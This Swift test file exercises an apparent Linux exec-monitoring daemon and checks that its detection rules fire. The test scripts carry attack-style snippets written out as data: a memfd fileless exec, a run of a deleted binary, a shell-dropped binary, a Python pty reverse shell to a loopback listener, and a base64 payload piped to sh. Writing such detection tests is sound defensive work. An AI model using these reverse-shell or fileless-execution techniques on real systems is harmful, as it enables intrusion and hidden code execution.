@testable import AgentDaemon
@testable import AgentDetector
@testable import AgentSessions
import Foundation
import Glibc
import Testing

extension KernelSuite {
    /// What an exec really ran, as an ordinary user in real sessions: a memfd and a deleted
    /// binary named as the kernel names them, the image's identity equal to stat(2), a binary a
    /// shell redirect just wrote, a pty reverse shell's driver, a decoded payload piped into a
    /// shell; each raising its rule, and the capture replaying to the same alerts.
    @Suite("exec identity")
    struct ExecIdentityTests {
        static let nobody = 65534

        /// A directory nobody can write and root cleans up.
        final class Scratch {
            let path: String
            init() throws {
                path = "/tmp/aw-exec-\(getpid())-\(UInt32.random(in: 0...UInt32.max))"
                try FileManager.default.createDirectory(atPath: path, withIntermediateDirectories: true)
                chmod(path, 0o777)
            }
            func write(_ name: String, _ text: String) throws -> String {
                let p = path + "/" + name
                try Data(text.utf8).write(to: URL(fileURLWithPath: p))
                chmod(p, 0o644)
                return p
            }
            deinit { try? FileManager.default.removeItem(atPath: path) }
        }

        func daemon() throws -> TestDaemon {
            let d = try TestDaemon { $0.rules = [KernelEnv.packageRoot + "/rules"] }
            d.start()
            return d
        }

        /// Runs `script` with bash as nobody in a fresh session; returns the session's records
        /// once it has ended (its cgroup removed, so every record and alert is written).
        func run(_ d: TestDaemon, session: String, _ script: String) -> (records: [[String: Any]], status: Int32) {
            let cg = d.sessionPath(session)
            mkdir(cg, 0o755)
            CgroupFS.setxattr(cg, SessionMetadata.xattr, SessionMetadata(uid: UInt32(Self.nobody), labels: [], home: "/tmp").encoded())
            #expect(SessionLauncher.waitUntilWatched(path: cg, timeoutMs: 30_000))
            let r = runIn(cg, ["/usr/bin/setpriv", "--reuid=\(Self.nobody)", "--regid=\(Self.nobody)", "--clear-groups", "/bin/bash", "-c", script])
            removeCgroupTree(cg)
            let records = d.waitForRecords { $0.contains { $0.string("type") == "session.end" && $0.string("session.id") == session } }
            return (records.filter { $0.string("session.id") == session }, r.status)
        }

        func execs(_ records: [[String: Any]]) -> [[String: Any]] { records.filter { $0.string("type") == "process.exec" } }
        func alertIDs(_ records: [[String: Any]]) -> [String] {
            records.filter { $0.string("type") == "alert" }.compactMap { $0.string("rule.id") }.sorted()
        }
        func bool(_ r: [String: Any], _ path: String) -> Bool? { r[path: path] as? Bool }

        /// The capture, replayed through the same rules, raises what was raised live.
        func expectReplayAgrees(_ d: TestDaemon, sourceLocation: Testing.SourceLocation = #_sourceLocation) throws {
            let records = d.records()
            let live = records.filter { $0.string("type") == "alert" }.map { a in
                "\(a.string("rule.id") ?? "") \((a[path: "evidence"] as? [Int] ?? []).map(UInt64.init)) \(a.int("suppressed") ?? 0)"
            }
            let rules = try RuleSet.load(paths: [KernelEnv.packageRoot + "/rules"])
            #expect(DetectionTests().replayedAlerts(records, rules: rules) == live, sourceLocation: sourceLocation)
            try expectValidAgainstSchema(d.output, sourceLocation: sourceLocation)
        }

        @Test("memfd_create + execv of /proc/self/fd/N is memfd:NAME, fileless, and raises exec-fileless; an open of it is named too")
        func memfdExec() throws {
            let scratch = try Scratch()
            let py = try scratch.write("memfd.py", """
                import os
                fd = os.memfd_create("aw-payload", 0)
                os.write(fd, open("/usr/bin/true", "rb").read())
                os.close(os.open("/proc/self/fd/%d" % fd, os.O_RDONLY))
                r, w = os.pipe()
                os.close(os.open("/proc/self/fd/%d" % r, os.O_RDONLY | os.O_NONBLOCK))
                os.execv("/proc/self/fd/%d" % fd, ["aw-true"])
                """)
            let d = try daemon()
            defer { d.stop() }
            let (records, status) = run(d, session: "memfd", "python3 \(py)")
            #expect(status == 0)
            let exec = try #require(execs(records).first { $0.string("process.exe") == "memfd:aw-payload" },
                                    "no exec of memfd:aw-payload: \(execs(records).map { $0.string("process.exe") ?? "" })")
            #expect(bool(exec, "process.exe_fileless") == true)
            #expect(bool(exec, "process.exe_deleted") == false)
            #expect(bool(exec, "process.exe_written") == false)
            #expect(exec.string("process.filename")?.hasPrefix("/proc/self/fd/") == true)
            #expect(exec.int("process.uid") == Self.nobody)
            #expect((exec.int("process.exe_inode") ?? 0) > 0)
            #expect(exec.string("process.previous_exe")?.contains("python3") == true)
            // The open through /proc/self/fd names the memfd, not "/".
            let open = records.first { $0.string("type") == "file.open" && ($0.string("file.requested_path") ?? "").hasPrefix("/proc/self/fd/") }
            #expect(open?.string("file.path") == "memfd:aw-payload")
            // A pipe reopened the same way is named as /proc shows it: pipe:[INO].
            #expect(records.contains { r in
                r.string("type") == "file.open" && (r.string("file.requested_path") ?? "").hasPrefix("/proc/self/fd/")
                    && (r.string("file.path") ?? "").wholeMatch(of: /pipe:\[[0-9]+\]/) != nil
            })
            #expect(alertIDs(records) == ["exec-fileless"])
            try expectReplayAgrees(d)
        }

        @Test("an unlinked binary run through its descriptor is PATH (deleted) and raises exec-fileless; its writer is known")
        func deletedBinaryExec() throws {
            let scratch = try Scratch()
            let bin = scratch.path + "/aw-del"
            let py = try scratch.write("del.py", """
                import os
                fd = os.open("\(bin)", os.O_RDONLY)
                os.unlink("\(bin)")
                os.execv("/proc/self/fd/%d" % fd, ["aw-del"])
                """)
            let d = try daemon()
            defer { d.stop() }
            let (records, status) = run(d, session: "deleted", "cp /usr/bin/true \(bin) && python3 \(py)")
            #expect(status == 0)
            let exec = try #require(execs(records).first { $0.string("process.exe") == bin + " (deleted)" },
                                    "no exec of \(bin) (deleted): \(execs(records).map { $0.string("process.exe") ?? "" })")
            #expect(bool(exec, "process.exe_deleted") == true)
            #expect(bool(exec, "process.exe_fileless") == false)
            // cp wrote it in this session (a copy, not a dropper: no exec-dropped-binary).
            #expect(bool(exec, "process.exe_written") == true)
            #expect(exec.string("process.exe_written_by")?.hasSuffix("/cp") == true)
            #expect(alertIDs(records) == ["exec-fileless"])
            try expectReplayAgrees(d)
        }

        /// The mount id of `path` as /proc/self/fdinfo shows it for a descriptor of it.
        func mountID(_ path: String) -> Int? {
            let fd = open(path, O_RDONLY | O_CLOEXEC)
            guard fd >= 0 else { return nil }
            defer { close(fd) }
            let info = (try? String(contentsOfFile: "/proc/self/fdinfo/\(fd)", encoding: .utf8)) ?? ""
            return info.split(separator: "\n").first { $0.hasPrefix("mnt_id:") }.flatMap { Int($0.dropFirst(7).trimmingCharacters(in: .whitespaces)) }
        }

        @Test("the exe identity is stat(2)'s; a binary a shell redirect wrote raises exec-dropped-binary")
        func identityAndDroppedBinary() throws {
            let scratch = try Scratch()
            let dropped = scratch.path + "/aw-dropped"
            // A copy made before the daemon starts, on the scratch directory's file system: the
            // identity is compared with stat(2) there. (On an overlay whose layers are on other
            // file systems, as virtme's /usr is in the matrix VMs, stat names a layer's pseudo
            // device and the kernel's file the overlay's: README, "What is seen, and what is not".)
            let trueCopy = scratch.path + "/aw-true"
            try #require(runIn(nil, ["/bin/cp", "/usr/bin/true", trueCopy]).status == 0)
            chmod(trueCopy, 0o755)
            let d = try daemon()
            defer { d.stop() }
            let (records, status) = run(d, session: "identity", """
                \(trueCopy)
                cat /usr/bin/true > \(dropped); chmod +x \(dropped); \(dropped)
                """)
            #expect(status == 0)
            var st = stat()
            try #require(stat(trueCopy, &st) == 0)
            let major = ((st.st_dev >> 8) & 0xFFF) | ((st.st_dev >> 32) & ~0xFFF)
            let minor = (st.st_dev & 0xFF) | ((st.st_dev >> 12) & ~0xFF)
            let tru = try #require(execs(records).first { $0.string("process.exe") == trueCopy })
            #expect(tru.int("process.exe_inode") == Int(st.st_ino))
            #expect(tru.string("process.exe_device") == "\(major):\(minor)")
            #expect(tru.int("process.exe_mount_id") == mountID(trueCopy))
            #expect(bool(tru, "process.exe_fileless") == false && bool(tru, "process.exe_deleted") == false)
            #expect(bool(tru, "process.exe_written") == false)

            let drop = try #require(execs(records).first { $0.string("process.exe") == dropped })
            var dst = stat()
            try #require(stat(dropped, &dst) == 0)
            #expect(drop.int("process.exe_inode") == Int(dst.st_ino))
            #expect(bool(drop, "process.exe_written") == true)
            #expect(drop.string("process.exe_written_by") == "/usr/bin/bash")
            #expect(alertIDs(records) == ["exec-dropped-binary"])
            try expectReplayAgrees(d)
        }

        /// A loopback listener outside any session: accepts one connection, waits, sends `exit`
        /// to whatever shell is on the other side, and reads until it hangs up.
        final class ShellOperator {
            let pid: pid_t
            let port: Int
            let dir: String
            init() throws {
                dir = "/tmp/aw-op-\(getpid())-\(UInt32.random(in: 0...UInt32.max))"
                try FileManager.default.createDirectory(atPath: dir, withIntermediateDirectories: true)
                let script = """
                    import socket, time
                    l = socket.socket(); l.bind(("127.0.0.1", 0)); l.listen(1)
                    open("\(dir)/port", "w").write(str(l.getsockname()[1]))
                    c, _ = l.accept()
                    time.sleep(1.5)
                    c.sendall(b"exit\\n")
                    c.settimeout(10)
                    try:
                        while c.recv(4096): pass
                    except Exception: pass
                    """
                pid = spawn(["/usr/bin/env", "python3", "-c", script])
                let portFile = dir + "/port"
                _ = waitUntil(timeout: 10) { FileManager.default.fileExists(atPath: portFile) }
                usleep(50_000)
                port = Int((try? String(contentsOfFile: portFile, encoding: .utf8)) ?? "") ?? 0
            }
            deinit {
                kill(pid, SIGKILL)
                var st: Int32 = 0
                waitpid(pid, &st, 0)
                try? FileManager.default.removeItem(atPath: dir)
            }
        }

        @Test("a pty reverse shell: the shell's terminal is driven by the connected python, which raises shell-pty-driven-from-network")
        func ptyReverseShell() throws {
            let op = try ShellOperator()
            try #require(op.port > 0, "loopback listener did not start")
            let scratch = try Scratch()
            let py = try scratch.write("rev.py", """
                import socket, os, pty
                s = socket.create_connection(("127.0.0.1", \(op.port)))
                [os.dup2(s.fileno(), f) for f in (0, 1, 2)]
                pty.spawn("/bin/sh")
                """)
            let d = try daemon()
            defer { d.stop() }
            let (records, status) = run(d, session: "pty", "timeout 20 python3 \(py)")
            #expect(status == 0)
            let python = try #require(execs(records).first {
                ($0.string("process.exe") ?? "").contains("/python3") && ($0[path: "process.argv"] as? [String])?.contains(py) == true
            })
            let shell = try #require(execs(records).first { $0.string("process.filename") == "/bin/sh" },
                                     "no exec of /bin/sh: \(execs(records).map { $0.string("process.exe") ?? "" })")
            #expect(shell.string("process.stdin.type") == "tty")
            #expect(shell.string("process.stdin.device")?.hasPrefix("136:") == true)
            #expect(shell.int("process.stdin.driver.pid") == python.int("process.pid"))
            #expect(shell.string("process.stdin.driver.entity_id") == python.string("process.entity_id"))
            #expect(shell.string("process.stdin.driver.exe") == python.string("process.exe"))
            #expect(bool(shell, "process.stdin.driver.inet") == true)
            #expect(alertIDs(records) == ["shell-pty-driven-from-network"])
            try expectReplayAgrees(d)
        }

        @Test("a shell on a pty driven by a process with no network connection is not raised")
        func ptyWithoutNetwork() throws {
            let scratch = try Scratch()
            // The driver reads the shell's commands from a pipe that says `exit` after a while (a
            // driver that is gone by the time the exec is read is not found). It closes what it
            // inherited from the test runner, which may hold sockets of its own.
            let py = try scratch.write("local.py", """
                import os, pty
                os.closerange(3, 4096)
                pty.spawn("/bin/sh")
                """)
            let d = try daemon()
            defer { d.stop() }
            let (records, _) = run(d, session: "ptylocal", "(sleep 1.5; echo exit) | timeout 20 python3 \(py) >/dev/null")
            let shell = try #require(execs(records).first { $0.string("process.filename") == "/bin/sh" })
            #expect(shell.string("process.stdin.type") == "tty")
            #expect(bool(shell, "process.stdin.driver.inet") == false, "driver \(shell[path: "process.stdin.driver"] ?? "none"); execs \(execs(records).map { "\($0.int("process.pid") ?? 0) \($0.string("process.exe") ?? "")" })")
            #expect(alertIDs(records) == [])
            try expectReplayAgrees(d)
        }

        @Test("base64 -d | sh raises shell-decoded-piped-to-shell; base64 -d file > out raises nothing")
        func decodedPipedToShell() throws {
            let scratch = try Scratch()
            let blob = try scratch.write("blob.b64", "ZWNobyBhdy1kZWNvZGVkCg==\n")
            let d = try daemon()
            defer { d.stop() }
            let (records, status) = run(d, session: "decode", "echo ZWNobyBhdy1kZWNvZGVkCg== | base64 -d | sh")
            #expect(status == 0)
            #expect(alertIDs(records) == ["shell-decoded-piped-to-shell"])
            let (quiet, _) = run(d, session: "decodefile", "base64 -d \(blob) > \(scratch.path)/out && cat \(scratch.path)/out >/dev/null")
            #expect(alertIDs(quiet) == [])
            try expectReplayAgrees(d)
        }
    }
}
